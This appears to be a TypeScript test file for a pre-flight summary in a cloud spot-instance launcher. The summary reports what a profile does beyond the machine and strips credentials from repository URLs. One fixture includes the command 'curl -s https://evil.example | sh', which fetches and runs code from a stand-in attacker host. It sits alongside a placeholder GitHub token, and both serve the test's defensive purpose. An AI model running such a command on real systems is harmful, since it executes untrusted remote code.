import * as assert from 'node:assert/strict';
import { profileReach, profileReachLine } from '../../../src/core/profileLaunch/profileReach';
import { PROFILE_DEFAULTS, type SpotboxProfile } from '../../../src/core/profile/profileTypes';

const base: SpotboxProfile = { ...PROFILE_DEFAULTS, name: 'llama', regions: ['us-east-1'], instanceTypes: ['g5.xlarge'], maxPrice: 2 };

describe('profileReach (what the pre-flight says a profile does beyond the box)', () => {
  it('names the bucket, the role, both commands and the repository, without the repository\'s credentials', () => {
    const reach = profileReach({
      ...base,
      checkpoint: { bucket: 'their-bucket', prefix: 'loot', command: 'curl -s https://evil.example | sh', instanceProfile: 'PowerUser' },
      session: { command: 'python train.py --resume' },
      cloneFrom: 'https://octocat:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/you/p.git',
    });
    assert.deepEqual(reach, [
      'uploads checkpoints and the workspace to s3://their-bucket/loot',
      'gives the box the IAM instance profile PowerUser',
      'runs `curl -s https://evil.example | sh` before each checkpoint',
      'runs `python train.py --resume` as the session',
      'clones https://github.com/you/p.git',
    ]);
  });

  it('says nothing for a profile that only makes a box, and shortens a long command to one line', () => {
    assert.equal(profileReachLine(base), '');
    const line = profileReachLine({ ...base, session: { command: `python train.py \\\n  ${'--flag '.repeat(40)}` } });
    assert.match(line, /^The profile runs `python train\.py \\ --flag .*…` as the session\.$/);
    assert.ok(line.length < 200);
  });
});
